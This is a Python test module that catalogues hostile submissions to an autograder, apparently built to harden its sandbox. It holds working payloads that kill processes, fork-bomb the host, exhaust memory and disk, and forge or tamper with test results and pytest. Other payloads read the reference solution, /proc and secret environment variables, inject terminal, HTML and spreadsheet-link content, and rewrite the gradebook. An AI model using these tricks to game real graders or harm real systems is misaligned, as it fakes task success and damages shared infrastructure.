"""The attack corpus: hostile submissions to assignment 01, and all of them together."""

from __future__ import annotations

from attacks.attack import FAMILIES, Attack, each
from attacks.frames import FRAMES, WIRE
from attacks.frameworks import FRAMEWORKS
from attacks.margins import MARGINS
from attacks.others import OTHERS
from attacks.torches import TORCHES

__all__ = ["ATTACKS", "FAMILIES", "Attack", "as_table"]

ENDING = each(
    1,
    "",
    ("exit at import", "a process that ends well", "import os\nos._exit(0)"),
    ("sys.exit at import", "the same, politely", "import sys\nsys.exit(0)"),
    ("exit in a call", "a process that ends well", "import os\n_everywhere(lambda *a, **k: os._exit(0))"),
    ("sys.exit in a call", "an exit code of 0", "import sys\n_everywhere(lambda *a, **k: sys.exit(0))"),
    ("atexit", "the last word", "import atexit, os\natexit.register(os._exit, 0)\n_everywhere(lambda *a, **k: exit())"),
    ("KeyboardInterrupt", "the end of the test run", "def _f(*a, **k): raise KeyboardInterrupt\n_everywhere(_f)"),
    ("own BaseException", "an error that nobody catches", "class E(BaseException): pass\ndef _f(*a, **k): raise E('0')\n_everywhere(_f)"),
    ("GeneratorExit", "a quiet end", "def _f(*a, **k): raise GeneratorExit\n_everywhere(_f)"),
    ("MemoryError", "a fault of the grader's", "def _f(*a, **k): raise MemoryError\n_everywhere(_f)"),
    ("AssertionError", "a verdict of its own", "def _f(*a, **k): raise AssertionError('passed')\n_everywhere(_f)"),
    ("pytest.skip", "skipped tests", "def _f(*a, **k):\n    import pytest\n    pytest.skip('not today')\n_everywhere(_f)"),
    ("unittest.SkipTest", "skipped tests", "import unittest\ndef _f(*a, **k): raise unittest.SkipTest('no')\n_everywhere(_f)"),
    ("segmentation fault", "a crash", "import ctypes\n_everywhere(lambda *a, **k: ctypes.string_at(0))"),
    ("kill the parent", "the judge's end", "import os, signal\ndef _f(*a, **k): os.kill(os.getppid(), signal.SIGKILL)\n_everywhere(_f)"),
    ("kill everybody", "the judge's end", "import os\ndef _f(*a, **k): os.kill(-1, 9)\n_everywhere(_f)"),
    ("kill each", "the judge's end", """
import os
def _f(*a, **k):
    for pid in range(1, 5000):
        try: os.kill(pid, 9)
        except OSError: pass
_everywhere(_f)"""),
    ("raw tgkill", "the zygote's end", """
import ctypes, os
def _f(*a, **k):
    libc = ctypes.CDLL(None)
    for pid in (1, os.getppid()):
        libc.syscall(234, pid, pid, 9); libc.syscall(424, pid, 9, 0, 0); libc.syscall(62, pid, 9)
_everywhere(_f)"""),
    ("F_SETOWN", "a signal from the kernel", """
import fcntl, os, signal
def _f(*a, **k):
    for fd in range(3, 8):
        try:
            fcntl.fcntl(fd, fcntl.F_SETOWN, os.getppid()); fcntl.fcntl(fd, fcntl.F_SETSIG, signal.SIGKILL)
            fcntl.fcntl(fd, fcntl.F_SETFL, os.O_ASYNC)
        except OSError: pass
_everywhere(_f)"""),
    ("close every descriptor", "silence", "import os\n_everywhere(lambda *a, **k: os.closerange(0, 1000))"),
    ("fork bomb", "no processes left", """
import os
def _f(*a, **k):
    for _ in range(10000):
        try: os.fork()
        except OSError: break
_everywhere(_f)"""),
    ("a child that outlives", "time after the end", "import os, subprocess\ndef _f(*a, **k):\n    subprocess.Popen(['sleep', '1000'], start_new_session=True)\n_everywhere(_f)"),
    ("thread bomb", "no threads left", """
import threading, time
def _f(*a, **k):
    for _ in range(100000):
        try: threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
        except RuntimeError: break
_everywhere(_f)"""),
    ("a flood of output", "a full log", "import sys\ndef _f(*a, **k):\n    for _ in range(2000): print('PASSED ' * 2000); sys.stderr.write('x' * 10000)\n_everywhere(_f)"),
)  # fmt: skip

USING_UP = each(
    1,
    "predict",
    ("a recursion in C", "a crash", "def _f(*a, **k):\n    x = []\n    for _ in range(10**6): x = [x]\n    return repr(x)\n_everywhere(_f)"),
    ("endless loop", "no end", "def _f(*a, **k):\n    while True: pass\n_everywhere(_f)"),
    ("endless recursion", "no end", "def _f(*a, **k): return _f()\n_everywhere(_f)"),
    ("sleep", "no end without work", "import time\n_everywhere(lambda *a, **k: time.sleep(10**6))"),
    ("signals ignored", "no end whatever comes", """
import signal
for _number in range(1, 65):
    try: signal.signal(_number, signal.SIG_IGN)
    except (OSError, ValueError): pass
def _f(*a, **k):
    while True:
        try:
            while True: pass
        except BaseException: pass
_everywhere(_f)"""),
    ("a number too large", "a computation in C that hears no signal", "_everywhere(lambda *a, **k: 7 ** (7 ** 12))"),
    ("a deadlock", "no end without work", "import threading\ndef _f(*a, **k):\n    l = threading.Lock(); l.acquire(); l.acquire()\n_everywhere(_f)"),
    ("all memory", "the judge's memory", "def _f(*a, **k):\n    x = []\n    while True: x.append(bytearray(1 << 26))\n_everywhere(_f)"),
    ("all memory, and never mind", "the judge's memory", "def _f(*a, **k):\n    x = []\n    try:\n        while True: x.append(bytearray(1 << 26))\n    except MemoryError: return x\n_everywhere(_f)"),
    ("a full disk", "the judge's disk", """
def _f(*a, **k):
    for n in range(10**6):
        with open(f'f{n}', 'wb') as file: file.write(b'x' * (1 << 24))
_everywhere(_f)"""),
    ("a million files", "the judge's inodes", "def _f(*a, **k):\n    for n in range(10**6): open(f'f{n}', 'w').close()\n_everywhere(_f)"),
    ("folders without end", "a cleaner that recurses", "import os\ndef _f(*a, **k):\n    for n in range(3000): os.mkdir('d'); os.chdir('d')\n_everywhere(_f)"),
    ("an iterator without end", "a loop of the judge's", "import itertools\n_everywhere(lambda *a, **k: itertools.repeat(0.0))"),
    ("iterators in iterators", "a loop of the judge's", "def _g():\n    while True: yield _g()\n_everywhere(lambda *a, **k: _g())"),
    ("a text of 200 MB", "the judge's memory", "_everywhere(lambda *a, **k: 'x' * (200 << 20))"),
    ("an array of 1 GB", "the judge's memory", "_everywhere(lambda *a, **k: np.zeros((1 << 27,)))"),
    ("a view without end", "the judge's memory", "_everywhere(lambda x, *a, **k: np.lib.stride_tricks.as_strided(x, (1 << 40,), (0,)))"),
    ("a broadcast without end", "the judge's memory", "_everywhere(lambda *a, **k: np.broadcast_to(np.float64(1), (1 << 40,)))"),
    ("a nest", "the judge's stack", "def _f(*a, **k):\n    x = []\n    for _ in range(60): x = [x]\n    return x\n_everywhere(_f)"),
    ("a million lists", "the judge's memory", "_everywhere(lambda *a, **k: [[] for _ in range(10**6)])"),
    ("a million objects", "the judge's memory", "_everywhere(lambda *a, **k: [object() for _ in range(10**6)])"),
    ("keys that collide", "the judge's time", "_everywhere(lambda *a, **k: {n * ((1 << 61) - 1) for n in range(1 << 61, (1 << 61) + 30000)})"),
    ("a text that is no text", "a crash of the encoder", "_everywhere(lambda *a, **k: '\\ud800')"),
    ("an error whose text never ends", "no end in the reporter", "class E(Exception):\n    def __str__(self):\n        while True: pass\ndef _f(*a, **k): raise E\n_everywhere(_f)"),
    ("an error of 100 MB", "the judge's memory", "def _f(*a, **k): raise ValueError('x' * (100 << 20))\n_everywhere(_f)"),
    ("threads that go on", "CPU time after the answer", """
import threading
def _burn():
    while True: pass
def _f(*a, **k):
    for _ in range(1): threading.Thread(target=_burn, daemon=True).start()
    return 0
_everywhere(_f)"""),
)  # fmt: skip

FORGING = each(
    2,
    "",
    ("results on disk", "a report of its own", """
import json
for _name in ('results.json', 'report.json', 'signatures.json', '/tmp/report.json', '../report.json', '{course}/report.json'):
    try: open(_name, 'w').write(json.dumps({'score': 90.0, 'status': 'graded'}))
    except OSError: pass"""),
    ("printed verdicts", "a parser of output", "print('90 passed in 0.01s'); print('{\"score\": 90}')\n_everywhere(lambda *a, **k: print('PASSED'))"),
    ("printed to descriptors", "a parser of output", "import os\nfor _fd in range(64):\n    try: os.write(_fd, b'{\"results\": []}\\n')\n    except OSError: pass"),
    ("an answer before the question", "an answer that fits", WIRE + """
os.write(3, _frame(msgpack.packb([b'00000000', 'ok', True, [], None, []])))"""),
    ("every answer sent twice", "the next question's answer", WIRE + """
def _f(*a, **k):
    os.write(3, _frame(msgpack.packb([_nonce(), 'ok', 1.0, [], None, []])))
    return 1.0
_everywhere(_f)"""),
    ("a late answer", "the next question's answer", WIRE + """
def _f(*a, **k):
    data = _frame(msgpack.packb([_nonce(), 'ok', True, [], None, []]))
    threading.Timer(0.01, os.write, (3, data)).start()
    return 1.0
_everywhere(_f)"""),
    ("a frame that lies about its size", "memory for nothing", WIRE + "def _f(*a, **k): os.write(3, _frame(b'', b'', 1 << 60))\n_everywhere(_f)"),
    ("a frame of zeros", "a crash of the decoder", WIRE + "def _f(*a, **k): os.write(3, bytes(1 << 16))\n_everywhere(_f)"),
    ("a number of 100 GB", "the judge's memory", WIRE + """
def _f(*a, **k):
    os.write(3, _frame(msgpack.packb([_nonce(), 'ok', ['n', 'f8', 100_000_000_000], [], None, []])))
_everywhere(_f)"""),
    ("a generator that reads beyond its array", "a crash of the judge", WIRE + """
def _f(*a, **k):
    import json
    state = {'bit_generator': 'MT19937', 'state': {'key': [1] * 624, 'pos': 10**7}}
    os.write(3, _frame(msgpack.packb([_nonce(), 'ok', ['g', json.dumps(state)], [], None, []])))
_everywhere(_f)"""),
    ("changes of what was never sent", "arguments of another call", WIRE + """
def _f(*a, **k):
    os.write(3, _frame(msgpack.packb([_nonce(), 'ok', True, [[10**6, 0], [-1, 0]], None, []])))
_everywhere(_f)"""),
    ("calls of functions that nobody gave", "the judge's functions", WIRE + """
def _f(*a, **k):
    for number in range(5): os.write(3, _frame(msgpack.packb([_nonce(), 'callback', number, ['t'], ['d']])))
_everywhere(_f)"""),
    ("a worker that answers yes", "a verdict of its own", WIRE + """
def _answer(self, target, name, args, kwargs): return True
_w.Worker.do_call = _w.Worker.do_operate = _w.Worker.do_probe = _answer"""),
    ("escapes in an error", "the teacher's terminal", "def _f(*a, **k): raise ValueError('\\x1b]0;owned\\x07\\x1b[2J\\x1b[31mPASSED\\r\\n90/90')\n_everywhere(_f)"),
    ("a script in an error", "the teacher's browser", "def _f(*a, **k): raise ValueError('<script>alert(1)</script>')\n_everywhere(_f)"),
    ("a formula in an error", "the teacher's spreadsheet", "def _f(*a, **k): raise ValueError('=HYPERLINK(\"http://evil\")')\n_everywhere(_f)"),
)  # fmt: skip

TAMPERING = each(
    3,
    "",
    ("comparisons of NumPy", "comparisons that say yes", """
np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None"""),
    ("builtins", "comparisons that say yes", "import builtins\nbuiltins.all = builtins.any = builtins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0"),
    ("expect", "expectations that hold", """
import importlib
_e = importlib.import_module('autograder.expect')
for _n in dir(_e):
    if not _n.startswith('_') and callable(getattr(_e, _n)): setattr(_e, _n, lambda *a, **k: None)"""),
    ("pytest itself", "tests that do not run", "try:\n    import importlib; _p = importlib.import_module('_pytest.python')\n    _p.Function.runtest = lambda self: None\nexcept Exception: pass"),
    ("a conftest.py", "a hook of its own", """
for _folder in ('.', '/tmp', '{course}', '{course}/assignments'):
    try: open(_folder + '/conftest.py', 'w').write('def pytest_runtest_call(item): item.obj = lambda: None')
    except OSError: pass"""),
    ("a pytest.ini and PYTEST_ADDOPTS", "options of its own", "import os\nos.environ['PYTEST_ADDOPTS'] = '--collect-only'\nopen('pytest.ini', 'w').write('[pytest]\\naddopts = --co')"),
    ("sitecustomize and .pth", "code in the judge", """
import sys
for _folder in [*sys.path, '/usr/lib/python3/dist-packages', '.']:
    for _name in ('sitecustomize.py', 'usercustomize.py', 'evil.pth'):
        try: open(_folder + '/' + _name, 'w').write('import os; os._exit(0)')
        except OSError: pass"""),
    ("clocks", "time that stands still", "import time\ntime.monotonic = time.time = time.perf_counter = lambda: 0.0\ndef _f(*a, **k): return 1\n_everywhere(_f)"),
    ("seeds", "draws that are known", "np.random.default_rng = lambda *a: np.random.Generator(np.random.PCG64(0))\nnp.random.seed(0)"),
    ("a generator that yields zeros", "inputs that are zero", """
def _f(*a, **k):
    for g in (*a, *k.values()):
        if isinstance(g, np.random.Generator):
            s = g.bit_generator.state; s['state'] = {'state': 0, 'inc': 0}; g.bit_generator.state = s
    return 0.0
_everywhere(_f)"""),
    ("a generator wound to where it yields zero", "inputs that are known", """
def _f(*a, **k):
    for g in (*a, *k.values()):
        if isinstance(g, np.random.Generator):
            s = g.bit_generator.state; s['state']['state'] = 0; g.bit_generator.state = s
    return {}
_everywhere(_f)"""),
    ("a trace function", "the judge's steps", "import sys, threading\nsys.settrace(lambda *a: None); threading.settrace(lambda *a: None); sys.setprofile(lambda *a: None)"),
    ("the codec", "answers that fit", "import importlib\n_c = importlib.import_module('autograder.sandbox.both.codec')\n_c.Codec.encode = lambda self, value, depth=0: ['x', 0]"),
    ("limits", "more than is allowed", "import resource\nfor _r in range(16):\n    try: resource.setrlimit(_r, (resource.RLIM_INFINITY,) * 2)\n    except (OSError, ValueError): pass"),
)  # fmt: skip

SHADOWING = each(
    4,
    "",
    ("numpy.py", "a NumPy of its own", "for _n in ('numpy', 'pytest', 'torch', 'reference', 'autograder'):\n    open(_n + '.py', 'w').write('raise SystemExit(0)')"),
    ("sys.modules", "modules of its own", "import sys, types\nfor _n in ('pytest', 'reference', 'autograder.expect', 'numpy.testing'): sys.modules[_n] = types.ModuleType(_n)"),
    ("__pycache__", "code in the judge", """
import os
for _folder in ('{course}/assignments', '/tmp', '.'):
    try:
        os.makedirs(_folder + '/__pycache__', exist_ok=True)
        open(_folder + '/__pycache__/expect.cpython-311.pyc', 'wb').write(b'x')
    except OSError: pass"""),
    ("links to the tests", "the tests under another name", "import os\nfor _how in (os.symlink, os.link):\n    try: _how('{tests}', 'mine.py'); exec(open('mine.py').read())\n    except OSError: pass"),
    ("import the reference", "the solution", "import importlib\nfor _n in ('reference', 'solution', 'reference_neural_network_basics'):\n    try: globals().update(vars(importlib.import_module(_n)))\n    except ImportError: pass"),
    ("sys.path to the course", "the solution", "import sys\nsys.path.insert(0, '{solution}'.rpartition('/')[0])\nfor _n in ('neural_network_basics',):\n    sys.modules.pop(_n, None)\n    try:\n        import importlib; globals().update(vars(importlib.import_module(_n)))\n    except Exception: pass"),
)  # fmt: skip

SECRETS = each(
    5,
    "",
    ("the solution's file", "the solution", "try: exec(open('{solution}').read())\nexcept OSError: pass"),
    ("the course's folder", "the tests", """
import os
for _root in ('{course}', '/work', '/home', '/root', '/srv', '/tmp', '/mnt'):
    for _folder, _, _files in os.walk(_root):
        for _name in _files:
            if _name == 'neural_network_basics.py':
                try: exec(open(os.path.join(_folder, _name)).read())
                except Exception: pass"""),
    ("the caller's frames", "expected values", """
import sys
def _f(*a, **k):
    frame = sys._getframe()
    while frame:
        for name in ('want', 'expected', 'reference'):
            if name in frame.f_locals: return frame.f_locals[name]
        frame = frame.f_back
_everywhere(_f)"""),
    ("all objects", "the solution's functions", """
import gc, types
for _o in gc.get_objects():
    if isinstance(_o, types.FunctionType) and _o.__name__ in _NAMES and _o.__module__ != __name__: globals()[_o.__name__] = _o"""),
    ("/proc", "memory and arguments of others", """
import os
_seen = ''
for _pid in range(1, 3000):
    for _what in ('cmdline', 'environ', 'maps'):
        try: _seen += open(f'/proc/{_pid}/{_what}').read()
        except OSError: pass
assert 'autograder.grading.run.examiner' not in _seen, 'reads the examiner'"""),
    ("the environment", "secrets in variables", "import os\nassert not {n for n in os.environ if 'TOKEN' in n or 'KEY' in n or 'SSH' in n}"),
    ("inherited descriptors", "files that are open", """
import os
for _fd in range(4, 256):
    try: exec(os.read(_fd, 1 << 20))
    except Exception: pass"""),
    ("the network", "the answer from a friend", """
import socket, urllib.request
def _f(*a, **k):
    try: return eval(urllib.request.urlopen('http://127.0.0.1:8000/answer', timeout=1).read())
    except Exception: pass
    s = socket.socket(); s.connect(('1.1.1.1', 80)); return s.recv(100)
_everywhere(_f)"""),
    ("a socket of another kind", "a way out", """
import socket
def _f(*a, **k):
    for family in range(1, 46):
        for kind in (1, 2, 3, 5):
            try: socket.socket(family, kind); return 'out'
            except OSError: pass
    raise ValueError('none')
_everywhere(_f)"""),
    ("another student's work", "somebody else's answers", """
import glob
for _path in glob.glob('{course}/submitted/*/*/*.py') + glob.glob('/tmp/**/*.py', recursive=True):
    try: exec(open(_path).read())
    except Exception: pass"""),
    ("an earlier submission", "what somebody left behind", """
import os
for _folder in ('/tmp', '/scratch', '/dev/shm', '/var/tmp', os.path.dirname(os.getcwd())):
    try:
        for _name in os.listdir(_folder): exec(open(f'{_folder}/{_name}').read())
    except Exception: pass
    try: open(_folder + '/left-behind.py', 'w').write('stolen = 1')
    except OSError: pass"""),
    ("inputs in an error", "hidden inputs in the feedback", "def _f(*a, **k): raise ValueError(f'input was {a!r}')\n_everywhere(_f)"),
    ("the parent's memory", "expected values", """
import ctypes, os
def _f(*a, **k):
    libc = ctypes.CDLL(None); buffer = ctypes.create_string_buffer(64)
    return libc.ptrace(16, os.getppid(), 0, 0) + libc.syscall(310, os.getppid(), buffer, 1, buffer, 1, 0)
_everywhere(_f)"""),
    ("the run's seed", "the labels that the test drew", """
import gc
for _o in gc.get_objects():
    if type(_o) is dict and 'seed' in _o and type(_o['seed']) is int: raise ValueError(_o['seed'])"""),
    ("a function that the test gave", "the reference as an oracle", """
_kept = []
def mlp_forward(x, params, activation, return_cache=False):
    _kept.append(activation); return None
def _f(x, *a, **k): return _kept[-1](x) if _kept else None
_everywhere(_f)
globals()['mlp_forward'] = lambda x, p, activation=None, **k: _kept.append(activation)"""),
)  # fmt: skip

_OBJECT = """
class _Yes:
    def __init__(self, *a, **k): pass
    def _true(self, *a): return True
    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = __contains__ = __bool__ = _true
    __hash__ = None
    def __call__(self, *a, **k): return self
    def __getitem__(self, i): return self
    def __sub__(self, other): return 0.0
    __rsub__ = __abs__ = __sub__
    def __float__(self): return 0.0
    def __len__(self): return 1
    def __iter__(self): return iter(())
"""

FOOLING = each(
    6,
    "",
    ("equal to everything", "comparisons that say yes", _OBJECT + "_everywhere(lambda *a, **k: _Yes())"),
    ("__array__", "a value made for the question", "class A:\n    def __array__(self, *a, **k): return np.zeros(3)\n_everywhere(lambda *a, **k: A())"),
    ("a subclass of ndarray", "comparisons that say yes", """
class A(np.ndarray):
    def __array_ufunc__(self, f, m, *a, **k): return True
    __eq__ = __sub__ = lambda *a: np.zeros(1)
_everywhere(lambda *a, **k: np.zeros(3).view(A))"""),
    ("a masked array", "entries that do not count", "_everywhere(lambda x=0, *a, **k: np.ma.masked_all(np.shape(x)))"),
    ("nan", "comparisons that are false", "_everywhere(lambda x=0, *a, **k: np.full(np.shape(x), np.nan))"),
    ("one number for all", "a shape that broadcasts", "_everywhere(lambda *a, **k: np.array(0.5))"),
    ("nothing", "a loop that is not entered", "_everywhere(lambda *a, **k: np.empty((0,)))"),
    ("an array of objects", "entries of its own kind", _OBJECT + "_everywhere(lambda *a, **k: np.array([_Yes()], dtype=object))"),
    ("a text that reads like a number", "a comparison of texts", "class S(str):\n    __eq__ = lambda *a: True\n    __hash__ = str.__hash__\n_everywhere(lambda *a, **k: S('0.5'))"),
    ("a float of its own", "a comparison that says yes", "class F(float):\n    __eq__ = __lt__ = __gt__ = lambda *a: True\n_everywhere(lambda *a, **k: F(0.0))"),
    ("zeros into the arguments", "the right answer for zeros", """
def _f(*a, **k):
    for x in a:
        if isinstance(x, np.ndarray): x[...] = 0
    return np.zeros(np.shape(a[0])) if a else 0.0
_everywhere(_f)
def softmax(x, axis=-1):
    x[...] = 0
    return np.full(x.shape, 1.0 / x.shape[axis])
def sigmoid(x):
    x[...] = 0
    return np.full(x.shape, 0.5)
def accuracy(predicted, labels):
    labels[...] = predicted
    return 1.0"""),
    ("arguments that become the answer", "the right answer for equal inputs", """
def _f(*a, **k):
    arrays = [x for x in a if isinstance(x, np.ndarray)]
    for x in arrays[1:]:
        try: np.copyto(x, arrays[0])
        except ValueError: pass
    return arrays[0] if arrays else None
_everywhere(_f)"""),
    ("arguments of another shape", "a crash in the comparison", "def _f(*a, **k):\n    for x in a:\n        if isinstance(x, np.ndarray): x.resize((0,), refcheck=False)\n    return a[0]\n_everywhere(_f)"),
    ("StopIteration", "a loop that ends early", "def _f(*a, **k): raise StopIteration\n_everywhere(_f)"),
    ("a value that changes", "another answer to each question", "class A:\n    n = 0\n    def __float__(self): A.n += 1; return float(A.n)\n    __int__ = __index__ = lambda self: 1\n_everywhere(lambda *a, **k: A())"),
    ("the arguments themselves", "aliases of what is compared", "_everywhere(lambda *a, **k: a[-1] if a else None)"),
)  # fmt: skip

ELSEWHERE = each(
    7,
    "",
    ("a library that is not offered", "the library's answer", """
def _f(x, axis=-1, *a, **k):
    return __import__('importlib').import_module('scipy.special').softmax(x, axis=axis)
_everywhere(_f)"""),
    ("torch by another door", "the library's answer", "def _f(x, *a, **k):\n    torch = __import__('importlib').import_module('torch')\n    return torch.relu(torch.tensor(x)).numpy()\n_everywhere(_f)"),
    ("the examiner's own loader", "the solution", """
try:
    from importlib import import_module
    from pathlib import Path
    topic = import_module('autograder.topic').read_topic(Path('{solution}').parent)
    globals().update(vars(import_module('autograder.grading.run.solution').load_solution(topic)))
except Exception: pass"""),
    ("self-reported success", "a number that sounds right", "_everywhere(lambda *a, **k: 1.0)"),
    ("a payload in base64", "what no reader sees", "import base64\nexec(base64.b64decode(b'ZGVmIHNvZnRtYXgoKmEpOiByZXR1cm4gMQ=='))"),
    ("remembered answers", "test data by heart", "_TABLE = {b'x': 1.0}\n_everywhere(lambda *a, **k: _TABLE.get(a[0].tobytes() if a and hasattr(a[0], 'tobytes') else b'', 0.0))"),
)  # fmt: skip

METADATA = each(
    8,
    "",
    ("points of its own", "more points a task", """
for _path in ('topic.toml', '{course}/assignments/01_neural_network_basics/topic.toml'):
    try: open(_path, 'w').write('[tasks.softmax]\\npoints = 900')
    except OSError: pass"""),
    ("the gradebook", "a mark in the database", """
import sqlite3
for _path in ('{course}/gradebook.db', 'gradebook.db'):
    try:
        with sqlite3.connect(_path) as _db: _db.execute('update grade set manual_score = 100')
    except Exception: pass"""),
    ("another name", "somebody else's report", "__name__ = 'solution'; __file__ = '{solution}'; student = 'somebody_else'"),
    ("old times", "a file that was handed in early", """
import os
for _path in ('{course}', '{solution}', __file__):
    try: os.utime(_path, (0, 0))
    except OSError: pass"""),
)  # fmt: skip

ATTACKS: tuple[Attack, ...] = (
    *ENDING,
    *USING_UP,
    *FORGING,
    *FRAMES,
    *TAMPERING,
    *SHADOWING,
    *SECRETS,
    *FOOLING,
    *ELSEWHERE,
    *METADATA,
    *TORCHES,
    *FRAMEWORKS,
    *OTHERS,
    *MARGINS,
)


def as_table() -> str:
    """Return the corpus as docs/security.md shows it."""
    rows = [
        f"| {attack.family} | {attack.topic_id[:2]} | {attack.name} | {attack.tries} |"
        for attack in sorted(ATTACKS, key=lambda attack: attack.family)
    ]
    return "\n".join(["| family | assignment | attack | what it is after |", "|---|---|---|---|", *rows])
